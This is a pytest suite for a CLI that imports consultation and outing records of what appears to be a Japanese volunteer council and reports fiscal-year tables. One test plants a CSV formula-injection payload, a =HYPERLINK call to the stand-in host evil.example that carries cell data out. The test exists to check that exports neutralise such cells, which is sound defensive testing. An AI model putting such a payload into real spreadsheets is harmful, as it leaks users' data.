"""`fieldbot import` then `fieldbot report --fy`: the published table of DOMAIN.md, to the件."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

pytestmark = pytest.mark.slow

VOLUNTEER = "ボランティア希望（活動）者からの相談"
AGENCY_GROUP = "関係機関からの相談"


def fieldbot(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TELEGRAM_", "DATABASE_", "TAXONOMY_"))}
    env["DATABASE_PATH"] = str(tmp_path / "council.sqlite3")
    return subprocess.run(
        [sys.executable, "-m", "cli", *args], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120
    )


def write_files(tmp_path: Path) -> tuple[Path, Path]:
    baseline = tmp_path / "baseline.csv"
    rows = [
        "fiscal_year,dimension,category,count",
        "2019,agency,子ども政策課,9",
        "2019,agency,高齢者支援課,11",
        "2019,agency,kosha,1",
        f"2019,consulter,{AGENCY_GROUP},21",
        f"2019,consulter,{VOLUNTEER},19",
        f"2019,consulter_category,{VOLUNTEER}/寄付（寄贈）したい,6",
        "2019,consulter_category,volunteer/volunteer,5",
        "2019,consulter_category,volunteer/worries,8",
        "2019,activity,活動先への出向き・参加,30",
    ]
    baseline.write_bytes(("\n".join(rows) + "\n").encode("cp932"))  # Excel's Japanese CSV
    records = tmp_path / "records.csv"
    lines = [
        "kind,date,staff,area,activity,destination,channel,consulter,consulter_category,topic,agencies,at_outing,"
        "from_agency"
    ]
    categories = ["donate"] * 10 + ["volunteer"] * 6 + ["worries"] * 6 + ["other"] * 2
    for i, category in enumerate(categories):
        channel, at_outing = ("出向いた先", "yes") if i % 3 == 0 else ("電話", "no")
        lines.append(
            f"consultation,2020/{4 + i % 9}/1,山田 花子,境南町,,,{channel},volunteer,{category},,,{at_outing},"
        )
    # Consultations from agencies: the agency that consulted in the older column agencies (one agency on a row of
    # this group) or in from_agency.
    for i, agency in enumerate(["子ども政策課"] * 12 + ["elderly"] * 9):
        lines.append(
            f"consultation,2020/{4 + i % 9}/2,山田 花子,境南町,,,電話,agency,,居場所づくりに関する事,{agency},,"
        )
    for agency in ("健康課", "福祉公社"):
        lines.append(f"consultation,2020/5/3,山田 花子,,,,,{AGENCY_GROUP},,その他,,,{agency}")
    for i in range(27):
        lines.append(f"outing,2020-06-{1 + i:02d},山田 花子,kyonan,outing,高齢者サロン,,,,,,,")
    records.write_text("\ufeff" + "\r\n".join(lines) + "\r\n", encoding="utf-8")  # UTF-8 with BOM
    return baseline, records


def test_an_imported_baseline_and_a_year_of_records_give_the_published_fiscal_year_tables(tmp_path: Path) -> None:
    baseline, records = write_files(tmp_path)
    for kind, path in (("baseline", baseline), ("records", records)):
        result = fieldbot(tmp_path, "import", kind, str(path))
        assert result.returncode == 0, result.stdout + result.stderr
    again = fieldbot(tmp_path, "import", "records", str(records))
    assert again.returncode == 1 and "このファイルは取り込み済みです" in again.stdout

    text = fieldbot(tmp_path, "report", "--fy", "2020").stdout
    for line in (
        "【集計】令和2年度",
        "比較：令和元年度",
        "・子ども政策課 12件 (+3件)",
        "・高齢者支援課 9件 (-2件)",
        "・健康課 1件 (新)",
        "・福祉公社 1件 (±0件)",
        f"■ {AGENCY_GROUP} 23件（+2件）",
        f"■ {VOLUNTEER} 24件（+5件）",
        "1位：寄付（寄贈）したい 10件（+4件）",
        "2位：ボランティアしたい 6件（+1件）",
        "2位：ボランティア活動中の悩み、活動報告など 6件（-2件）",
        "4位：その他 2件（新）",
        "・活動先への出向き・参加 27件 (-3件)",
        "※ () 内は前年度比",
    ):
        assert line in text.splitlines(), line

    report = json.loads(fieldbot(tmp_path, "report", "--fy", "2020", "--format", "json").stdout)
    assert report["period"] == {"start": "2020-04-01", "end": "2021-03-31", "label": "令和2年度"}
    assert report["compare"] == {"start": "2019-04-01", "end": "2020-03-31", "label": "令和元年度"}
    assert report["outing_share"] == round(8 / 47, 4)
    agency = [
        (r["code"], r["count"], r["previous"], r["delta"], r["rank"], r["new"]) for r in report["dimensions"]["agency"]
    ]
    assert agency == [
        ("children", 12, 9, 3, 1, False),
        ("elderly", 9, 11, -2, 2, False),
        ("health", 1, 0, 1, 3, True),
        ("kosha", 1, 1, 0, 3, False),
    ]
    assert sum(r["count"] for r in report["dimensions"]["topic"]) == 23  # both lists add up to the group
    assert report["dimensions"]["referral"] == []  # none of these consultations was referred on
    volunteer, agency_group = report["dimensions"]["consulter"]
    assert (volunteer["code"], volunteer["count"], volunteer["previous"], volunteer["delta"]) == (
        "volunteer",
        24,
        19,
        5,
    )
    assert (agency_group["code"], agency_group["count"], agency_group["delta"]) == ("agency", 23, 2)
    assert [(c["code"], c["rank"], c["delta"], c["new"]) for c in volunteer["categories"]] == [
        ("donate", 1, 4, False),
        ("volunteer", 2, 1, False),
        ("worries", 2, -2, False),
        ("other", 4, 2, True),
    ]
    assert set(report["dimensions"]) == {
        "activity",
        "destination",
        "channel",
        "consulter",
        "topic",
        "agency",
        "referral",
    }


def test_report_options_are_checked_with_one_line(tmp_path: Path) -> None:
    for args, message in (
        (("--week", "2021-W53"), "no ISO week 53"),
        (("--from", "2026-11-01"), "--from needs --to"),
        (("--fy", "2020", "--zone", "nowhere"), "「nowhere」という圏域はありません"),
    ):
        result = fieldbot(tmp_path, "report", *args)
        assert result.returncode == 2 and message in result.stderr and len(result.stderr.splitlines()) == 1


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "png"])
def test_report_files_are_written(tmp_path: Path, fmt: str) -> None:
    _, records = write_files(tmp_path)
    assert fieldbot(tmp_path, "import", "records", str(records)).returncode == 0
    out = tmp_path / f"fy2020.{fmt}"
    result = fieldbot(tmp_path, "report", "--fy", "2020", "--format", fmt, "--out", str(out))
    assert result.returncode == 0, result.stderr
    head = out.read_bytes()[:8]
    assert head.startswith({"csv": b"\xef\xbb\xbf", "xlsx": b"PK", "png": b"\x89PNG"}[fmt])


def test_an_export_imported_again_adds_nothing_and_its_cells_are_text(tmp_path: Path) -> None:
    _, records = write_files(tmp_path)
    hostile = tmp_path / "hostile.csv"
    hostile.write_text(
        "kind,date,staff,area,activity,destination,channel,consulter\n"
        'outing,2020-07-01,"=HYPERLINK(""http://evil.example/?""&D2,""x"")",kyonan,outing,高齢者サロン,,\n',
        encoding="utf-8",
    )
    for path in (records, hostile):
        result = fieldbot(tmp_path, "import", "records", str(path))
        assert result.returncode == 0, result.stdout + result.stderr
    exported = tmp_path / "fy2020.csv"
    result = fieldbot(tmp_path, "export", "--fy", "2020", "--format", "csv", "--out", str(exported))
    assert result.returncode == 0 and "令和2年度の記録75件を" in result.stdout, result.stderr
    with exported.open(encoding="utf-8-sig", newline="") as source:
        rows = list(csv.DictReader(source))
    assert {r["担当者"] for r in rows} == {"山田 花子", '\'=HYPERLINK("http://evil.example/?"&D2,"x")'}

    again = fieldbot(tmp_path, "import", "records", str(exported))
    assert again.returncode == 0, again.stdout + again.stderr
    assert "75件はすでにデータベースにある記録（同じ record_id）なので、飛ばしました" in again.stdout
    twice = fieldbot(tmp_path, "import", "records", str(exported))
    assert twice.returncode == 1 and "このファイルは取り込み済みです" in twice.stdout
    lines = fieldbot(tmp_path, "report", "--fy", "2020").stdout.splitlines()
    assert "・活動記録 28件" in lines and "・子ども政策課 12件" in lines  # counted once
    assert lines[-1] == "※比較できる前年度のデータがありません"  # 令和元年度 has no data: no deltas, no 新

    workbook = tmp_path / "fy2020.xlsx"
    result = fieldbot(tmp_path, "export", "--fy", "2020", "--format", "xlsx", "--out", str(workbook))
    assert result.returncode == 0, result.stderr
    cells = [c for row in openpyxl.load_workbook(workbook).worksheets[0].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert '\'=HYPERLINK("http://evil.example/?"&D2,"x")' in {c.value for c in cells}
